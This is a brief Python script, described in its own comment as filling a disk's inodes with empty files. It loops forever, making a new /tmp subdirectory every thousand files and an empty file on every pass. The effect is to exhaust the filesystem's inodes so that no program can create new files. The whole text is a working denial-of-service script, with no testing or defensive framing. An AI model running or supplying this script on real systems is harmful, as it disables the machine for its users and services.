#!/usr/bin/env python3
# Fills the disk's inodes with empty files.
import itertools
import os

for number in itertools.count():
    if number % 1000 == 0:
        os.mkdir(f"/tmp/{number}")
        os.chdir(f"/tmp/{number}")
    os.mknod(str(number))
